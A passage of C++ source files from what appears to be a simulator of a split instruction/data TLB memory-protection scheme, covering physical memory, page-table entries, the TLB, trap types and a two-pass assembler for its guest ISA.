  // --- byte-addressed access (physical addresses) ---------------------
  u8 read8(u64 pa) const;
  u32 read32(u64 pa) const;  // little-endian
  void write8(u64 pa, u8 v);
  void write32(u64 pa, u32 v);
  void read(u64 pa, std::span<u8> out) const;
  void write(u64 pa, std::span<const u8> in);

  // Direct view of one frame's bytes (kernel-internal use). The mutable
  // overload conservatively counts as a write: callers take it to fill or
  // copy frames, and any cached decode of the old contents must die.
  std::span<u8> frame_bytes(u32 pfn);
  std::span<const u8> frame_bytes(u32 pfn) const;

  // Mutation generation of one frame (see file comment).
  u64 generation(u32 pfn) const;

  // --- frame allocator --------------------------------------------------
  // Allocates a zeroed frame with refcount 1. Throws OutOfMemoryError.
  u32 alloc_frame();
  void ref_frame(u32 pfn);
  // Drops one reference; the frame returns to the free pool at zero.
  void unref_frame(u32 pfn);
  u32 refcount(u32 pfn) const;

  u32 frames_in_use() const { return frames_in_use_; }
  u32 frames_free() const { return num_frames_ - frames_in_use_; }

  // Fault injection (src/inject): when set, alloc_frame() may be forced to
  // fail as if the pool were exhausted. Cold path only.
  void set_fault_hooks(FaultHooks* hooks) { fault_hooks_ = hooks; }

 private:
  friend struct sm::snapshot::Access;

  void check_pa(u64 pa, u64 len) const;
  void bump_generation(u64 pa, u64 len);

  u32 num_frames_;
  std::vector<u8> bytes_;
  std::vector<u64> generations_;
  std::vector<u32> refcounts_;
  std::vector<u32> free_list_;
  u32 frames_in_use_ = 0;
  FaultHooks* fault_hooks_ = nullptr;
};

}  // namespace sm::arch
