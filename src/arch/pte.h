// Page-table entry format (x86-flavoured).
//
// Hardware-interpreted bits mirror the IA-32 layout the paper manipulates:
// PRESENT, WRITABLE, USER (the "supervisor bit" trick clears USER), plus
// ACCESSED/DIRTY and an execute-disable bit (folded into the low word for
// simplicity; real IA-32e keeps it in bit 63).
//
// Two software bits are used exactly as the paper's prototype does (§5.1):
// SPLIT marks a page that is being memory-split, and COW marks a page shared
// copy-on-write after fork.
#pragma once

#include "arch/types.h"

namespace sm::arch {

struct Pte {
  u32 raw = 0;

  static constexpr u32 kPresent = 1u << 0;
  static constexpr u32 kWritable = 1u << 1;
  static constexpr u32 kUser = 1u << 2;
  static constexpr u32 kAccessed = 1u << 3;
  static constexpr u32 kDirty = 1u << 4;
  static constexpr u32 kNoExec = 1u << 5;   // execute-disable bit
  static constexpr u32 kCow = 1u << 6;      // software: copy-on-write
  static constexpr u32 kSplit = 1u << 7;    // software: memory-split page
  static constexpr u32 kFlagsMask = 0xFFFu;

  static Pte make(u32 pfn, u32 flags) {
    return Pte{(pfn << kPageShift) | (flags & kFlagsMask)};
  }

  bool present() const { return raw & kPresent; }
  bool writable() const { return raw & kWritable; }
  bool user() const { return raw & kUser; }
  bool accessed() const { return raw & kAccessed; }
  bool dirty() const { return raw & kDirty; }
  bool no_exec() const { return raw & kNoExec; }
  bool cow() const { return raw & kCow; }
  bool split() const { return raw & kSplit; }

  u32 pfn() const { return raw >> kPageShift; }
  u32 flags() const { return raw & kFlagsMask; }

  void set_pfn(u32 pfn) { raw = (pfn << kPageShift) | flags(); }
  void set(u32 flag_bits) { raw |= flag_bits; }
  void clear(u32 flag_bits) { raw &= ~flag_bits; }

  // The paper's restrict()/unrestrict(): a restricted page is
  // supervisor-only, so any user access misses privilege and page-faults.
  void restrict_supervisor() { clear(kUser); }
  void unrestrict() { set(kUser); }

  friend bool operator==(const Pte&, const Pte&) = default;
};

}  // namespace sm::arch
