#include "arch/tlb.h"

#include <stdexcept>

namespace sm::arch {

namespace {
bool is_pow2(u32 v) { return v != 0 && (v & (v - 1)) == 0; }
}  // namespace

Tlb::Tlb(u32 num_entries, u32 ways) : ways_(ways) {
  if (ways == 0 || num_entries % ways != 0) {
    throw std::invalid_argument("TLB entries must divide evenly into ways");
  }
  num_sets_ = num_entries / ways;
  if (!is_pow2(num_sets_)) {
    throw std::invalid_argument("TLB set count must be a power of two");
  }
  entries_.resize(num_entries);
}

const TlbEntry* Tlb::lookup(u32 vpn) {
  const u32 base = set_of(vpn) * ways_;
  for (u32 w = 0; w < ways_; ++w) {
    TlbEntry& e = entries_[base + w];
    if (e.valid && e.vpn == vpn) {
      e.stamp = ++clock_;
      last_touched_ = base + w;
      return &e;
    }
  }
  return nullptr;
}

std::optional<TlbEntry> Tlb::insert(const TlbEntry& entry) {
  const u32 base = set_of(entry.vpn) * ways_;
  // Replace an existing mapping of the same VPN, else an invalid slot,
  // else the least recently used way.
  u32 victim = base;
  u64 oldest = UINT64_MAX;
  for (u32 w = 0; w < ways_; ++w) {
    TlbEntry& e = entries_[base + w];
    if (e.valid && e.vpn == entry.vpn) {
      victim = base + w;
      oldest = 0;
      break;
    }
    if (!e.valid) {
      victim = base + w;
      oldest = 0;
      // Keep scanning in case the same VPN exists in a later way.
      continue;
    }
    if (e.stamp < oldest) {
      oldest = e.stamp;
      victim = base + w;
    }
  }
  std::optional<TlbEntry> evicted;
  if (entries_[victim].valid && entries_[victim].vpn != entry.vpn) {
    evicted = entries_[victim];
  }
  entries_[victim] = entry;
  entries_[victim].valid = true;
  entries_[victim].stamp = ++clock_;
  last_touched_ = victim;
  ++version_;
  return evicted;
}

void Tlb::invalidate(u32 vpn) {
  const u32 base = set_of(vpn) * ways_;
  for (u32 w = 0; w < ways_; ++w) {
    TlbEntry& e = entries_[base + w];
    if (e.valid && e.vpn == vpn) e.valid = false;
  }
  ++version_;
}

void Tlb::flush() {
  for (TlbEntry& e : entries_) e.valid = false;
  ++version_;
}

bool Tlb::contains(u32 vpn) const { return peek(vpn).has_value(); }

std::optional<TlbEntry> Tlb::peek(u32 vpn) const {
  const u32 base = set_of(vpn) * ways_;
  for (u32 w = 0; w < ways_; ++w) {
    const TlbEntry& e = entries_[base + w];
    if (e.valid && e.vpn == vpn) return e;
  }
  return std::nullopt;
}

u32 Tlb::valid_count() const {
  u32 n = 0;
  for (const TlbEntry& e : entries_) {
    if (e.valid) ++n;
  }
  return n;
}

}  // namespace sm::arch
