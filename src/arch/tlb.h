// Set-associative translation lookaside buffer.
//
// The machine has TWO of these — an instruction-TLB and a data-TLB — which
// is the x86 property the whole paper rests on (§4.1, §4.2): entries are
// snapshots of a PTE taken at fill time and PERSIST after the PTE changes,
// so the OS can deliberately desynchronize the two TLBs and route
// instruction fetches and data accesses for the same virtual page to
// different physical frames.
//
// Permission bits (user/writable/no-exec) are cached in the entry and
// checked at use time, as real TLBs do; this is what lets the kernel
// restrict the PTE again while the TLB keeps serving user accesses.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "arch/types.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::arch {

struct TlbEntry {
  u32 vpn = 0;
  u32 pfn = 0;
  bool user = false;
  bool writable = false;
  bool no_exec = false;
  bool valid = false;
  u64 stamp = 0;  // for LRU replacement
};

class Tlb {
 public:
  // 64 entries, 4-way: roughly a Pentium III-era TLB.
  explicit Tlb(u32 num_entries = 64, u32 ways = 4);

  // Looks up a VPN and refreshes its LRU stamp on a hit.
  const TlbEntry* lookup(u32 vpn);

  // Inserts (or replaces) the translation for a VPN. Returns the valid
  // entry for a DIFFERENT page this fill displaced, if any (LRU victim) —
  // the trace layer records it as an eviction. Same-VPN replacement and
  // fills into empty ways return nullopt.
  std::optional<TlbEntry> insert(const TlbEntry& entry);

  // invlpg: drops one VPN if cached.
  void invalidate(u32 vpn);

  // Full flush, as a CR3 write causes.
  void flush();

  // True if any valid entry maps this VPN (test/inspection helper).
  bool contains(u32 vpn) const;
  std::optional<TlbEntry> peek(u32 vpn) const;

  u32 valid_count() const;
  u32 capacity() const { return static_cast<u32>(entries_.size()); }
  u32 ways() const { return ways_; }
  u32 sets() const { return num_sets_; }

  // --- fast-path support (Mmu's one-entry fetch memo) --------------------
  // Monotonic mutation counter: bumped by every insert/invalidate/flush.
  // A memo that captured version() is valid only while it still matches —
  // any entry churn (including LRU evictions by unrelated fills) kills it.
  u64 version() const { return version_; }
  // Stable index of a looked-up entry, for touch() without a set scan.
  u32 index_of(const TlbEntry* e) const {
    return static_cast<u32>(e - entries_.data());
  }
  // Refreshes one entry's LRU stamp exactly as lookup() would, so a memo
  // hit leaves replacement behaviour identical to the slow path.
  void touch(u32 index) {
    entries_[index].stamp = ++clock_;
    last_touched_ = index;
  }
  // Advances the clock n more ticks onto the most recently touched entry —
  // the wholesale equivalent of the n consecutive touch()es the per-byte
  // slow path would have made on it. The decode-cache and block-engine
  // fast paths bill bytes 1..len-1 as guaranteed hits on the entry byte 0
  // just used; without the matching clock ticks the machine's serialized
  // LRU state depends on host-cache warmth (the snapshot battery's
  // straight-vs-restored byte comparison caught exactly that drift).
  void touch_last(u64 n) {
    clock_ += n;
    entries_[last_touched_].stamp = clock_;
  }

  // --- inspection / fault injection --------------------------------------
  // Read-only view of a slot by flat index (no LRU touch, no billing); the
  // invariant watchdog scans with this so observation never perturbs
  // replacement state.
  const TlbEntry& entry_at(u32 index) const { return entries_[index]; }
  // Deterministic single-entry corruption for the fault injector: rewrites
  // a valid slot in place (a hardware bit flip in the CAM/payload). Bumps
  // version_ so the Mmu's memo fast paths cannot serve a snapshot of the
  // pre-corruption entry. Returns false if the slot was invalid.
  bool corrupt_entry(u32 index, u32 new_pfn, bool user, bool writable,
                     bool no_exec) {
    TlbEntry& e = entries_[index % entries_.size()];
    if (!e.valid) return false;
    e.pfn = new_pfn;
    e.user = user;
    e.writable = writable;
    e.no_exec = no_exec;
    ++version_;
    return true;
  }

 private:
  friend struct sm::snapshot::Access;

  u32 set_of(u32 vpn) const { return vpn & (num_sets_ - 1); }

  u32 ways_;
  u32 num_sets_;
  u64 clock_ = 0;
  u64 version_ = 0;
  // Not serialized: every touch_last() is preceded, within the same
  // instruction, by a lookup/insert/touch that sets it.
  u32 last_touched_ = 0;
  std::vector<TlbEntry> entries_;  // num_sets_ * ways_, set-major
};

}  // namespace sm::arch
