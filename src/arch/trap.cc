#include "arch/trap.h"

namespace sm::arch {

std::string to_string(TrapKind kind) {
  switch (kind) {
    case TrapKind::kPageFault:
      return "page-fault";
    case TrapKind::kInvalidOpcode:
      return "invalid-opcode";
    case TrapKind::kDebugStep:
      return "debug-step";
    case TrapKind::kSyscall:
      return "syscall";
    case TrapKind::kDivideByZero:
      return "divide-by-zero";
    case TrapKind::kGeneralProtection:
      return "general-protection";
  }
  return "unknown";
}

}  // namespace sm::arch
