// Trap (exception/interrupt) types raised by the simulated CPU.
#pragma once

#include <stdexcept>
#include <string>

#include "arch/types.h"

namespace sm::arch {

enum class TrapKind {
  kPageFault,      // translation failed or permission violated (CR2 = addr)
  kInvalidOpcode,  // undecodable instruction (#UD); pc points at it
  kDebugStep,      // trap-flag single-step completed (#DB)
  kSyscall,        // software interrupt; pc already advanced
  kDivideByZero,   // #DE
  kGeneralProtection,  // privileged instruction in user mode, bad register
};

// x86-style page-fault error information. `present` distinguishes a
// protection violation (true) from a not-present miss (false); `fetch`
// mirrors the instruction/data bit so the kernel can classify TLB misses
// even when the faulting address happens to equal EIP.
struct PageFaultInfo {
  u32 addr = 0;         // CR2
  bool present = false;
  bool write = false;
  bool user = true;
  bool fetch = false;
  // Software-managed-TLB mode only (paper §4.7): this fault is a TLB miss
  // the OS must service by loading the TLB itself.
  bool soft_miss = false;
};

struct Trap {
  TrapKind kind = TrapKind::kPageFault;
  PageFaultInfo pf{};
  u8 opcode = 0;  // for kInvalidOpcode

  static Trap page_fault(PageFaultInfo info) {
    return Trap{TrapKind::kPageFault, info, 0};
  }
  static Trap invalid_opcode(u8 op) {
    return Trap{TrapKind::kInvalidOpcode, {}, op};
  }
  static Trap simple(TrapKind k) { return Trap{k, {}, 0}; }
};

// Internal control-flow vehicle inside Cpu::step(); never escapes the CPU.
class TrapException {
 public:
  explicit TrapException(Trap t) : trap_(t) {}
  const Trap& trap() const { return trap_; }

 private:
  Trap trap_;
};

std::string to_string(TrapKind kind);

}  // namespace sm::arch
