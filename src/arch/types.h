// Fundamental widths and page geometry of the simulated machine.
//
// The machine is a 32-bit, little-endian, 4 KiB-page architecture modelled
// after the x86 features the paper exploits (two-level page tables, split
// instruction/data TLBs, supervisor bit, trap flag).
#pragma once

#include <cstdint>

namespace sm::arch {

using u8 = std::uint8_t;
using u16 = std::uint16_t;
using u32 = std::uint32_t;
using u64 = std::uint64_t;
using i32 = std::int32_t;
using i64 = std::int64_t;

inline constexpr u32 kPageShift = 12;
inline constexpr u32 kPageSize = 1u << kPageShift;
inline constexpr u32 kPageMask = kPageSize - 1;

constexpr u32 page_floor(u32 addr) { return addr & ~kPageMask; }
constexpr u32 page_ceil(u32 addr) { return (addr + kPageMask) & ~kPageMask; }
constexpr u32 vpn_of(u32 addr) { return addr >> kPageShift; }
constexpr u32 page_offset(u32 addr) { return addr & kPageMask; }

}  // namespace sm::arch
