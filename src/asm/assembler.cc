#include "asm/assembler.h"

#include <algorithm>
#include <cctype>
#include <optional>
#include <sstream>

#include "arch/isa.h"

namespace sm::assembler {

using arch::Op;

namespace {

enum class Section { kText, kData, kBss };

enum class Form {
  kRegImm,    // movi/addi/cmpi rd, imm
  kRegReg,    // mov/add/... rd, rs
  kLoad,      // load/loadb rd, [rs+imm]
  kStore,     // store/storeb [rd+imm], rs
  kImm,       // jmp/jz/.../call imm
  kReg,       // jmpr/callr/push/pop/not r
  kNone,      // ret/syscall/nop
};

struct Mnemonic {
  Op op;
  Form form;
};

const std::map<std::string, Mnemonic>& mnemonics() {
  static const std::map<std::string, Mnemonic> table = {
      {"movi", {Op::kMovi, Form::kRegImm}},
      {"addi", {Op::kAddi, Form::kRegImm}},
      {"cmpi", {Op::kCmpi, Form::kRegImm}},
      {"mov", {Op::kMov, Form::kRegReg}},
      {"add", {Op::kAdd, Form::kRegReg}},
      {"sub", {Op::kSub, Form::kRegReg}},
      {"mul", {Op::kMul, Form::kRegReg}},
      {"div", {Op::kDiv, Form::kRegReg}},
      {"modu", {Op::kModu, Form::kRegReg}},
      {"and", {Op::kAnd, Form::kRegReg}},
      {"or", {Op::kOr, Form::kRegReg}},
      {"xor", {Op::kXor, Form::kRegReg}},
      {"shl", {Op::kShl, Form::kRegReg}},
      {"shr", {Op::kShr, Form::kRegReg}},
      {"cmp", {Op::kCmp, Form::kRegReg}},
      {"not", {Op::kNot, Form::kReg}},
      {"load", {Op::kLoad, Form::kLoad}},
      {"loadb", {Op::kLoadb, Form::kLoad}},
      {"store", {Op::kStore, Form::kStore}},
      {"storeb", {Op::kStoreb, Form::kStore}},
      {"jmp", {Op::kJmp, Form::kImm}},
      {"jz", {Op::kJz, Form::kImm}},
      {"jnz", {Op::kJnz, Form::kImm}},
      {"jlt", {Op::kJlt, Form::kImm}},
      {"jge", {Op::kJge, Form::kImm}},
      {"jb", {Op::kJb, Form::kImm}},
      {"jae", {Op::kJae, Form::kImm}},
      {"call", {Op::kCall, Form::kImm}},
      {"jmpr", {Op::kJmpr, Form::kReg}},
      {"callr", {Op::kCallr, Form::kReg}},
      {"push", {Op::kPush, Form::kReg}},
      {"pop", {Op::kPop, Form::kReg}},
      {"ret", {Op::kRet, Form::kNone}},
      {"syscall", {Op::kSyscall, Form::kNone}},
      {"nop", {Op::kNop, Form::kNone}},
  };
  return table;
}

std::string strip(const std::string& s) {
  auto b = s.find_first_not_of(" \t\r");
  if (b == std::string::npos) return "";
  auto e = s.find_last_not_of(" \t\r");
  return s.substr(b, e - b + 1);
}

std::string lower(std::string s) {
  std::ranges::transform(s, s.begin(),
                         [](unsigned char c) { return std::tolower(c); });
  return s;
}

// Splits on commas that are outside quotes/brackets.
std::vector<std::string> split_operands(const std::string& s) {
  std::vector<std::string> out;
  std::string cur;
  bool in_str = false;
  bool in_chr = false;
  int depth = 0;
  for (std::size_t i = 0; i < s.size(); ++i) {
    const char c = s[i];
    if (in_str) {
      cur += c;
      if (c == '\\' && i + 1 < s.size()) {
        cur += s[++i];
      } else if (c == '"') {
        in_str = false;
      }
      continue;
    }
    if (in_chr) {
      cur += c;
      if (c == '\\' && i + 1 < s.size()) {
        cur += s[++i];
      } else if (c == '\'') {
        in_chr = false;
      }
      continue;
    }
    switch (c) {
      case '"':
        in_str = true;
        cur += c;
        break;
      case '\'':
        in_chr = true;
        cur += c;
        break;
      case '[':
        ++depth;
        cur += c;
        break;
      case ']':
        --depth;
        cur += c;
        break;
      case ',':
        if (depth == 0) {
          out.push_back(strip(cur));
          cur.clear();
        } else {
          cur += c;
        }
        break;
      default:
        cur += c;
    }
  }
  const std::string last = strip(cur);
  if (!last.empty()) out.push_back(last);
  return out;
}

struct Line {
  int number;
  std::vector<std::string> labels;
  std::string mnemonic;  // lowercase, possibly a ".directive"
  std::vector<std::string> operands;
};

std::string strip_comment(const std::string& raw) {
  std::string out;
  bool in_str = false;
  bool in_chr = false;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    const char c = raw[i];
    if (!in_str && !in_chr && (c == ';' || c == '#')) break;
    if (c == '"' && !in_chr) in_str = !in_str;
    if (c == '\'' && !in_str) in_chr = !in_chr;
    if (c == '\\' && (in_str || in_chr) && i + 1 < raw.size()) {
      out += c;
      out += raw[++i];
      continue;
    }
    out += c;
  }
  return out;
}

bool valid_ident(const std::string& s) {
  if (s.empty()) return false;
  if (!std::isalpha(static_cast<unsigned char>(s[0])) && s[0] != '_') {
    return false;
  }
  return std::ranges::all_of(s, [](unsigned char c) {
    return std::isalnum(c) || c == '_' || c == '.';
  });
}

class Assembler {
 public:
  Assembler(const std::string& source, const Layout& layout)
      : layout_(layout) {
    parse(source);
  }

  Program run() {
    pass_sizes_and_labels();
    pass_emit();
    Program p;
    p.layout = layout_;
    p.text = std::move(text_);
    p.data = std::move(data_);
    p.bss_size = bss_size_;
    p.symbols = std::move(symbols_);
    return p;
  }

 private:
  [[noreturn]] void err(int line, const std::string& msg) const {
    throw AsmError(line, msg);
  }

  void parse(const std::string& source) {
    std::istringstream in(source);
    std::string raw;
    int number = 0;
    while (std::getline(in, raw)) {
      ++number;
      std::string s = strip(strip_comment(raw));
      Line line;
      line.number = number;
      // Peel off leading labels.
      while (true) {
        const auto colon = s.find(':');
        if (colon == std::string::npos) break;
        const std::string head = strip(s.substr(0, colon));
        if (!valid_ident(head)) break;
        // Don't treat "label:" inside an operand as a label; heads only.
        line.labels.push_back(head);
        s = strip(s.substr(colon + 1));
      }
      if (!s.empty()) {
        const auto sp = s.find_first_of(" \t");
        line.mnemonic = lower(sp == std::string::npos ? s : s.substr(0, sp));
        if (sp != std::string::npos) {
          line.operands = split_operands(strip(s.substr(sp + 1)));
        }
      }
      if (!line.labels.empty() || !line.mnemonic.empty()) {
        lines_.push_back(std::move(line));
      }
    }
  }

  // --- expression evaluation -------------------------------------------
  std::optional<u32> parse_number(const std::string& t) const {
    if (t.empty()) return std::nullopt;
    if (t.size() >= 3 && t.front() == '\'' && t.back() == '\'') {
      const std::string body = t.substr(1, t.size() - 2);
      if (body.size() == 1) return static_cast<u32>(body[0]);
      if (body.size() == 2 && body[0] == '\\') {
        switch (body[1]) {
          case 'n':
            return '\n';
          case 't':
            return '\t';
          case 'r':
            return '\r';
          case '0':
            return 0;
          case '\\':
            return '\\';
          case '\'':
            return '\'';
        }
      }
      return std::nullopt;
    }
    std::size_t pos = 0;
    bool neg = false;
    if (t[pos] == '-') {
      neg = true;
      ++pos;
    }
    if (pos >= t.size()) return std::nullopt;
    u32 value = 0;
    try {
      std::size_t used = 0;
      const std::string body = t.substr(pos);
      unsigned long long v = 0;
      if (body.size() > 2 && body[0] == '0' &&
          (body[1] == 'x' || body[1] == 'X')) {
        v = std::stoull(body.substr(2), &used, 16);
        used += 2;
      } else {
        if (!std::isdigit(static_cast<unsigned char>(body[0]))) {
          return std::nullopt;
        }
        v = std::stoull(body, &used, 10);
      }
      if (used != body.size()) return std::nullopt;
      value = static_cast<u32>(v);
    } catch (const std::exception&) {
      return std::nullopt;
    }
    return neg ? static_cast<u32>(-static_cast<arch::i32>(value)) : value;
  }

  u32 eval(int line, const std::string& expr0,
           bool labels_required = true) const {
    const std::string expr = strip(expr0);
    if (auto n = parse_number(expr)) return *n;
    // label, label+N, label-N (split at the LAST +/- not at position 0)
    for (std::size_t i = expr.size(); i-- > 1;) {
      if (expr[i] == '+' || expr[i] == '-') {
        const std::string base = strip(expr.substr(0, i));
        // '-' keeps its sign; '+' is dropped so parse_number sees digits.
        const std::string off =
            strip(expr[i] == '+' ? expr.substr(i + 1) : expr.substr(i));
        if (!valid_ident(base)) continue;
        const auto offv = parse_number(off);
        if (!offv) continue;
        return lookup(line, base, labels_required) + *offv;
      }
    }
    if (valid_ident(expr)) return lookup(line, expr, labels_required);
    err(line, "cannot parse expression '" + expr + "'");
  }

  u32 lookup(int line, const std::string& name, bool required) const {
    if (auto it = symbols_.find(name); it != symbols_.end()) {
      return it->second;
    }
    if (required) err(line, "undefined symbol '" + name + "'");
    return 0;
  }

  std::optional<u8> parse_reg(const std::string& t) const {
    const std::string s = lower(strip(t));
    if (s == "sp") return arch::kRegSp;
    if (s == "fp") return arch::kRegFp;
    if (s.size() == 2 && s[0] == 'r' && s[1] >= '0' && s[1] <= '7') {
      return static_cast<u8>(s[1] - '0');
    }
    return std::nullopt;
  }

  u8 need_reg(int line, const std::string& t) const {
    const auto r = parse_reg(t);
    if (!r) err(line, "expected register, got '" + t + "'");
    return *r;
  }

  // Parses "[rs]", "[rs+expr]", "[rs-expr]"; returns {reg, offset}.
  std::pair<u8, u32> parse_mem(int line, const std::string& t,
                               bool labels_required) const {
    const std::string s = strip(t);
    if (s.size() < 3 || s.front() != '[' || s.back() != ']') {
      err(line, "expected memory operand [reg+off], got '" + t + "'");
    }
    const std::string body = strip(s.substr(1, s.size() - 2));
    // Find the first +/- after the register name.
    std::size_t split = std::string::npos;
    for (std::size_t i = 1; i < body.size(); ++i) {
      if (body[i] == '+' || body[i] == '-') {
        split = i;
        break;
      }
    }
    if (split == std::string::npos) {
      return {need_reg(line, body), 0};
    }
    const u8 reg = need_reg(line, body.substr(0, split));
    std::string off = strip(body.substr(split));
    if (off[0] == '+') off = strip(off.substr(1));
    return {reg, eval(line, off, labels_required)};
  }

  std::vector<u8> parse_string(int line, const std::string& t) const {
    const std::string s = strip(t);
    if (s.size() < 2 || s.front() != '"' || s.back() != '"') {
      err(line, "expected string literal, got '" + t + "'");
    }
    std::vector<u8> out;
    for (std::size_t i = 1; i + 1 < s.size(); ++i) {
      char c = s[i];
      if (c == '\\' && i + 2 < s.size() + 1) {
        const char e = s[++i];
        switch (e) {
          case 'n':
            c = '\n';
            break;
          case 't':
            c = '\t';
            break;
          case 'r':
            c = '\r';
            break;
          case '0':
            c = '\0';
            break;
          case '\\':
            c = '\\';
            break;
          case '"':
            c = '"';
            break;
          case 'x': {
            if (i + 2 >= s.size()) err(line, "bad \\x escape");
            const std::string hex = s.substr(i + 1, 2);
            c = static_cast<char>(std::stoi(hex, nullptr, 16));
            i += 2;
            break;
          }
          default:
            err(line, std::string("unknown escape '\\") + e + "'");
        }
      }
      out.push_back(static_cast<u8>(c));
    }
    return out;
  }

  // --- the two passes ----------------------------------------------------
  // `emit` is false in pass 1 (sizes + labels), true in pass 2.
  u32 section_base(Section s) const {
    switch (s) {
      case Section::kText:
        return layout_.text_base;
      case Section::kData:
        return layout_.data_base;
      case Section::kBss:
        return layout_.bss_base;
    }
    return 0;
  }

  void process(bool emit) {
    Section section = Section::kText;
    u32 off[3] = {0, 0, 0};
    auto cur = [&]() -> u32& { return off[static_cast<int>(section)]; };

    auto put8 = [&](u8 v) {
      if (emit && section != Section::kBss) {
        auto& buf = section == Section::kText ? text_ : data_;
        buf.push_back(v);
      }
      cur() += 1;
    };
    auto put32 = [&](u32 v) {
      for (int i = 0; i < 4; ++i) put8(static_cast<u8>(v >> (8 * i)));
    };

    for (const Line& line : lines_) {
      const int ln = line.number;
      if (!emit) {
        for (const std::string& label : line.labels) {
          if (symbols_.contains(label)) {
            err(ln, "duplicate label '" + label + "'");
          }
          symbols_[label] = section_base(section) + cur();
        }
      }
      if (line.mnemonic.empty()) continue;
      const std::string& m = line.mnemonic;

      if (m[0] == '.') {
        if (m == ".text") {
          section = Section::kText;
        } else if (m == ".data") {
          section = Section::kData;
        } else if (m == ".bss") {
          section = Section::kBss;
        } else if (m == ".global") {
          // accepted for familiarity; all labels are already exported
        } else if (m == ".byte") {
          for (const auto& opnd : line.operands) {
            put8(static_cast<u8>(eval(ln, opnd, emit)));
          }
        } else if (m == ".word") {
          for (const auto& opnd : line.operands) {
            put32(eval(ln, opnd, emit));
          }
        } else if (m == ".ascii" || m == ".asciz") {
          if (line.operands.size() != 1) err(ln, m + " needs one string");
          for (u8 b : parse_string(ln, line.operands[0])) put8(b);
          if (m == ".asciz") put8(0);
        } else if (m == ".space") {
          if (line.operands.empty() || line.operands.size() > 2) {
            err(ln, ".space needs size[, fill]");
          }
          const u32 n = eval(ln, line.operands[0], emit);
          const u8 fill = line.operands.size() == 2
                              ? static_cast<u8>(eval(ln, line.operands[1], emit))
                              : 0;
          if (section == Section::kBss && fill != 0) {
            err(ln, ".space fill must be zero in .bss");
          }
          for (u32 i = 0; i < n; ++i) put8(fill);
        } else if (m == ".align") {
          if (line.operands.size() != 1) err(ln, ".align needs one operand");
          const u32 a = eval(ln, line.operands[0], emit);
          if (a == 0 || (a & (a - 1)) != 0) {
            err(ln, ".align must be a power of two");
          }
          while (cur() % a != 0) put8(0);
        } else if (m == ".equ") {
          if (line.operands.size() != 2) err(ln, ".equ needs name, value");
          if (!emit) {
            const std::string name = strip(line.operands[0]);
            if (!valid_ident(name)) err(ln, "bad .equ name");
            if (symbols_.contains(name)) {
              err(ln, "duplicate symbol '" + name + "'");
            }
            symbols_[name] = eval(ln, line.operands[1], /*required=*/true);
          }
        } else {
          err(ln, "unknown directive '" + m + "'");
        }
        continue;
      }

      if (section == Section::kBss) err(ln, "instructions not allowed in .bss");
      const auto it = mnemonics().find(m);
      if (it == mnemonics().end()) err(ln, "unknown mnemonic '" + m + "'");
      const Mnemonic mn = it->second;
      const auto& ops = line.operands;
      auto need_ops = [&](std::size_t n) {
        if (ops.size() != n) {
          err(ln, m + " expects " + std::to_string(n) + " operand(s)");
        }
      };

      put8(static_cast<u8>(mn.op));
      switch (mn.form) {
        case Form::kRegImm:
          need_ops(2);
          put8(need_reg(ln, ops[0]));
          put32(eval(ln, ops[1], emit));
          break;
        case Form::kRegReg:
          need_ops(2);
          put8(need_reg(ln, ops[0]));
          put8(need_reg(ln, ops[1]));
          break;
        case Form::kLoad: {
          need_ops(2);
          put8(need_reg(ln, ops[0]));
          const auto [reg, offv] = parse_mem(ln, ops[1], emit);
          put8(reg);
          put32(offv);
          break;
        }
        case Form::kStore: {
          need_ops(2);
          const auto [reg, offv] = parse_mem(ln, ops[0], emit);
          put8(reg);
          put8(need_reg(ln, ops[1]));
          put32(offv);
          break;
        }
        case Form::kImm:
          need_ops(1);
          put32(eval(ln, ops[0], emit));
          break;
        case Form::kReg:
          need_ops(1);
          put8(need_reg(ln, ops[0]));
          break;
        case Form::kNone:
          need_ops(0);
          break;
      }
    }
    if (!emit) bss_size_ = off[static_cast<int>(Section::kBss)];
  }

  void pass_sizes_and_labels() { process(/*emit=*/false); }
  void pass_emit() { process(/*emit=*/true); }

  Layout layout_;
  std::vector<Line> lines_;
  std::map<std::string, u32> symbols_;
  std::vector<u8> text_;
  std::vector<u8> data_;
  u32 bss_size_ = 0;
};

}  // namespace

u32 Program::symbol(const std::string& name) const {
  const auto it = symbols.find(name);
  if (it == symbols.end()) {
    throw std::out_of_range("no such symbol: " + name);
  }
  return it->second;
}

Program assemble(const std::string& source, const Layout& layout) {
  return Assembler(source, layout).run();
}

}  // namespace sm::assembler
