// Two-pass assembler for the simulated ISA.
//
// Guest programs (vulnerable servers, attack victims, benchmark workloads)
// are written in this assembly and assembled at runtime; the resulting
// Program is wrapped into a SimpleELF image by sm::image::ImageBuilder.
//
// Syntax overview (see tests/asm_test.cc for worked examples):
//   ; comment        # comment
//   label:                       ; labels resolve to absolute addresses
//   .text / .data / .bss         ; section switch
//   .byte 1, 0x2, 'c'            ; 8-bit data
//   .word 0xdeadbeef, label      ; 32-bit LE data
//   .ascii "hi\n"   .asciz "hi"  ; strings (\n \t \0 \\ \" \xNN escapes)
//   .space 64       .align 16
//   .equ NAME, expr              ; named constant
//   movi r0, label+4             ; operands: rN/fp/sp, imm, label±offset
//   load r1, [r2+8]   store [sp-4], r0
//
// Section bases are fixed by Layout so labels are absolute, matching the
// non-PIC, fixed-layout binaries of the paper's 2001-2003 exploit targets.
#pragma once

#include <cstdint>
#include <map>
#include <stdexcept>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::assembler {

using arch::u32;
using arch::u8;

struct Layout {
  u32 text_base = 0x08048000;
  u32 data_base = 0x08100000;
  u32 bss_base = 0x08180000;
};

struct Program {
  Layout layout;
  std::vector<u8> text;
  std::vector<u8> data;
  u32 bss_size = 0;
  std::map<std::string, u32> symbols;

  u32 symbol(const std::string& name) const;
  bool has_symbol(const std::string& name) const {
    return symbols.contains(name);
  }
};

class AsmError : public std::runtime_error {
 public:
  AsmError(int line, const std::string& msg)
      : std::runtime_error("asm:" + std::to_string(line) + ": " + msg),
        line_(line) {}
  int line() const { return line_; }

 private:
  int line_;
};

// Assembles `source`; throws AsmError with a line number on any problem.
Program assemble(const std::string& source, const Layout& layout = {});

}  // namespace sm::assembler
