#include "asm/disassembler.h"

#include <cstdio>

#include "arch/isa.h"

namespace sm::assembler {

using arch::Op;

namespace {

std::string reg_name(u8 r) {
  if (r == arch::kRegSp) return "sp";
  if (r == arch::kRegFp) return "fp";
  return "r" + std::to_string(r);
}

std::string hex(u32 v) {
  char buf[16];
